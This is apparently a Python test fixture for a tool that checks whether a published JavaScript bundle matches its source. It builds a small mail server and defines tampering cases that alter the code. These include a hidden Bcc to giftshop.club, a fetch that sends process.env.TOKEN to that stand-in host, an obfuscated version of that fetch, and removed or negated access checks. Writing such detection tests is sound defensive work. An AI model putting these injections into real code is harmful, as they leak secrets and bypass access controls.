"""A small server that is published as a bundle with two real packages in it, and what strangers do to it."""

from __future__ import annotations

import json
import re
from collections.abc import Mapping
from dataclasses import dataclass

from provenly.trust.evidence import Comparison, Explanation
from provenly.verify.comparison.compare import compare
from provenly.verify.dependencies.model import LockedPackage
from provenly.verify.esbuild.releases import nearest
from provenly.verify.explain.scene import Tools
from tests.verify.explain.scenes import Files, Objects, packed, source_of

SOURCES: Mapping[str, str] = {
    "src/index.ts": """\
import ms from "ms";
import escape from "escape-html";
import { send, type Mail } from "./mail.js";
import { isAllowed, log } from "./policy.js";
export { send } from "./mail.js";

const started = Date.now();

export async function main(mail: Mail): Promise<string> {
  if (!isAllowed(mail.to)) {
    throw new Error("not allowed: " + mail.to);
  }
  log("subject", mail.subject);
  const answer = await send({ ...mail, subject: escape(mail.subject) });
  log("answered", answer);
  return answer + " after " + ms(Date.now() - started);
}

process.on("exit", () => log("exit", "end of it"));
""",
    "src/mail.ts": """\
export interface Mail { to: string; subject: string }
export async function send(mail: Mail): Promise<string> {
  const headers = { "content-type": "application/json" };
  const answer = await fetch("https://mail.example/send", { method: "POST", headers, body: JSON.stringify(mail) });
  if (!answer.ok) {
    await discard(mail);
    throw new Error("refused: " + answer.status);
  }
  return answer.statusText;
}
export async function discard(mail: Mail): Promise<string> {
  const answer = await fetch("https://mail.example/discard", { method: "DELETE", body: mail.to });
  return answer.statusText;
}
""",
    "src/policy.ts": """\
const ALLOWED = ["example.org", "example.net"];
export function isAllowed(address: string): boolean {
  if (!address) {
    process.exitCode = 64;
    return false;
  }
  return ALLOWED.some((domain) => address.endsWith("@" + domain));
}
export function log(what: string, text: string): void {
  console.error(what + ": " + text);
}
""",
}

LOCKED = {"ms": "2.1.3", "escape-html": "1.0.3"}

STATED = {
    "name": "left-pad",
    "version": "1.3.0",
    "main": "dist/index.js",
    "type": "module",
    "devDependencies": LOCKED,
}

LOCK = {
    "name": "left-pad",
    "lockfileVersion": 3,
    "packages": {
        "": {"name": "left-pad", "devDependencies": LOCKED},
        **{f"node_modules/{name}": {"version": version, "dev": True} for name, version in LOCKED.items()},
    },
}

TREE: Files = {**SOURCES, "package.json": STATED, "package-lock.json": json.dumps(LOCK)}

BUNDLE = "dist/index.js"

FLAGS = {
    "plain": ("--bundle", "--platform=node", "--format=esm", "--outfile=dist/index.js"),
    "minified": ("--bundle", "--platform=node", "--format=esm", "--minify", "--outfile=dist/index.js"),
}
"""How the bundle is made. No script of the source says it, so that nobody can make it again."""


def dependency(tools: Tools, name: str, version: str) -> Mapping[str, bytes]:
    """Return the files of a real package."""
    assert tools.dependencies is not None
    return tools.dependencies.files(LockedPackage(name=name, version=version, place=f"node_modules/{name}"))


def bundled(
    tools: Tools,
    form: str,
    sources: Mapping[str, str] = SOURCES,
    *,
    versions: Mapping[str, str] = LOCKED,
    edit: tuple[str, str, str] | None = None,
) -> str:
    """Return the bundle of sources, with packages in given versions.

    :param edit: a package, and what is replaced by what in its index.js.
    """
    tree = {"package.json": json.dumps(STATED).encode(), **{path: text.encode() for path, text in sources.items()}}
    for name, version in versions.items():
        for path, data in dependency(tools, name, version).items():
            tree[f"node_modules/{name}/{path}"] = data
    if edit:
        path = f"node_modules/{edit[0]}/index.js"
        assert edit[1].encode() in tree[path]
        tree[path] = tree[path].replace(edit[1].encode(), edit[2].encode())
    assert tools.esbuild is not None
    built = tools.esbuild.build(nearest("0.25.8"), tree, ("src/index.ts", *FLAGS[form]), directory="")
    return built.outputs[BUNDLE].decode()


def compared(tools: Tools, bundle: str, tree: Files = TREE, **others: str) -> Comparison:
    """Compare a package of a bundle with the source."""
    objects = Objects()
    item = packed({"package.json": STATED, BUNDLE: bundle, **others})
    return compare(item, source_of(objects, tree), objects, tools=tools)


def explained(tools: Tools, bundle: str, tree: Files = TREE) -> Explanation:
    """Return what the comparison says of the bundle."""
    return next(file for file in compared(tools, bundle, tree).files if file.path == BUNDLE)


@dataclass(frozen=True, kw_only=True)
class Trojan:
    """Something done to the server.

    :param sources: what is replaced by what in which source, before it is bundled.
    :param plain: a pattern and its replacement in the bundle.
    :param minified: the same in the minified bundle.
    :param shown: a word that must be in what is shown.
    """

    sources: tuple[str, str, str]
    plain: tuple[str, str]
    minified: tuple[str, str]
    shown: str

    def before(self, sources: Mapping[str, str] = SOURCES) -> Mapping[str, str]:
        """Return the altered sources."""
        path, old, new = self.sources
        assert sources[path].count(old) == 1
        return {**sources, path: sources[path].replace(old, new)}

    def after(self, bundle: str, form: str) -> str:
        """Return the altered bundle."""
        pattern, new = self.plain if form == "plain" else self.minified
        if "DISCARD" in new:
            found = re.search(r'async function (\w+)\(\w+\)\s*\{[^{}]*fetch\("https://mail.example/discard"', bundle)
            assert found
            new = new.replace("DISCARD", found[1])
        text, count = re.subn(pattern, new, bundle, count=1, flags=re.DOTALL)
        assert count == 1, f"{pattern} is not in the bundle"
        assert text != bundle
        return text


_SPELLED = "String.fromCharCode(104,116,116,112,115,58,47,47)"
_PIECES = f'globalThis["fe"+"tch"]({_SPELLED}+atob("Z2lmdHNob3A=")+["cl","ub"].join(""))'

TROJANS: Mapping[str, Trojan] = {
    "bcc": Trojan(
        sources=("src/mail.ts", "JSON.stringify(mail)", 'JSON.stringify({ ...mail, Bcc: "phan@giftshop.club" })'),
        plain=(r"JSON\.stringify\((mail)\)", r'JSON.stringify({ ...\1, Bcc: "phan@giftshop.club" })'),
        minified=(r"JSON\.stringify\((\w+)\)", r'JSON.stringify({...\1,Bcc:"phan@giftshop.club"})'),
        shown="phan@giftshop.club",
    ),
    "request": Trojan(
        sources=(
            "src/mail.ts",
            "  const headers",
            '  await fetch("https://giftshop.club/" + process.env.TOKEN);\n  const headers',
        ),
        plain=(r"( +)(const headers)", r'\1await fetch("https://giftshop.club/" + process.env.TOKEN);\n\1\2'),
        minified=(
            r"let (\w+=await fetch\(\"https://mail.example/send)",
            r'await fetch("https://giftshop.club/"+process.env.TOKEN);let \1',
        ),
        shown="giftshop.club",
    ),
    "deleted-check": Trojan(
        sources=(
            "src/index.ts",
            '  if (!isAllowed(mail.to)) {\n    throw new Error("not allowed: " + mail.to);\n  }\n',
            "",
        ),
        plain=(r" *if \(!isAllowed\(mail\.to\)\) \{.*?\n  \}\n", ""),
        minified=(r'if\(!\w+\(\w+\.to\)\)throw new Error\("not allowed: "\+\w+\.to\);', ""),
        shown="subject",
    ),
    "swapped": Trojan(
        sources=(
            "src/mail.ts",
            '    await discard(mail);\n    throw new Error("refused: " + answer.status);\n',
            '    throw new Error("refused: " + answer.status);\n    await discard(mail);\n',
        ),
        plain=(r"( +await discard\(mail\);\n)( +throw new Error\(\"refused[^\n]*\n)", r"\2\1"),
        minified=(r"throw (await \w+\(\w+\)),(new Error\(\"refused: \"\+\w+\.status\))", r"throw \2,\1"),
        shown="refused",
    ),
    "negated": Trojan(
        sources=("src/index.ts", "if (!isAllowed(mail.to))", "if (isAllowed(mail.to))"),
        plain=(r"if \(!isAllowed\(mail", "if (isAllowed(mail"),
        minified=(r"if\(!(\w+\(\w+\.to\)\)throw)", r"if(\1"),
        shown="not allowed",
    ),
    "other-function": Trojan(
        sources=(
            "src/index.ts",
            'import { send, type Mail } from "./mail.js";',
            'import { discard as send, type Mail } from "./mail.js";',
        ),
        plain=(r"await send\(\{ \.\.\.", "await DISCARD({ ..."),
        minified=(r"=await \w+\(\{\.\.\.", "=await DISCARD({..."),
        shown="subject",
    ),
    "copied": Trojan(
        sources=("src/index.ts", "const started = Date.now();", "process.exitCode = 64;\nconst started = Date.now();"),
        plain=(r"(var started = Date\.now\(\);)", r"process.exitCode = 64;\n\1"),
        minified=(r"(export\{)", r"process.exitCode=64;\1"),
        shown="exitCode",
    ),
    "pieces": Trojan(
        sources=("src/mail.ts", "  const headers", f"  {_PIECES};\n  const headers"),
        plain=(r"( +)(const headers)", rf"\1{_PIECES};\n\1\2"),
        minified=(r"let (\w+=await fetch\(\"https://mail.example/send)", rf"{_PIECES};let \1"),
        shown="atob",
    ),
}

MAX_BESIDE = 5
"""Genuine pieces that may be shown beside what was done."""
